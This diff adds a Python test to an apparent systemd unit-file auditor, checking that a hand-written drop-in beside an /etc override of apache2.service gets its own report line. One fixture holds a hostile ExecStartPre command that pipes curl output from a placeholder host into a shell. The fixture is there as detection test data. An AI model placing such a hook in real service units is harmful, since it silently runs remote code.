@@ -378,3 +378,21 @@ def test_a_unit_file_or_drop_in_ucf_keeps_for_a_package_as_shipped_is_its_packag
     assert found(exp, ucf) == []
     lines = found(exp, {**ucf, path: EXTEND + "ExecStartPost=/usr/local/sbin/x\n"})
     assert len(lines) == 1 and "by hand" in lines[0], lines
+
+
+def test_a_second_drop_in_by_hand_among_the_packages_units_is_named_beside_the_override_a_line_names(exp):
+    """Class: entries by hand of a unit a line names already. An override of apache2.service in /etc (the relied unit's line names it) and a second
+    drop-in of it by hand in /usr/lib: only the /etc one was named, and an allow_units entry written from that
+    line pinned the /usr/lib one unseen. Now the entries another line does not name get their own line; those it
+    names do not (one cause, one line)."""
+    override = "/etc/systemd/system/apache2.service.d/env.conf"
+    hand = "/usr/lib/systemd/system/apache2.service.d/zz.conf"
+    said = f"apache2.service is overridden in how systemd starts, reloads or stops it ({override}:2: ...)"
+    snap = snapshot({**PACKAGED, override: "[Service]\nEnvironment=A=1\n",
+                     hand: "[Service]\nExecStartPre=/bin/sh -c 'curl -s x | sh'\n"})
+    lines = later_starts(Texts(snap.files), exp, snap, {"apache2.service"}, said)
+    assert len(lines) == 1 and f"{hand}: by hand among the packages' units" in lines[0] and override not in \
+        lines[0], lines
+    assert later_starts(Texts(snap.files), exp, snap, {"apache2.service"}, said + f"; {hand}") == []
+    snap = snapshot({**PACKAGED, override: "[Service]\nEnvironment=A=1\n"})  # (the /etc one alone: its line)
+    assert later_starts(Texts(snap.files), exp, snap, {"apache2.service"}, said) == []
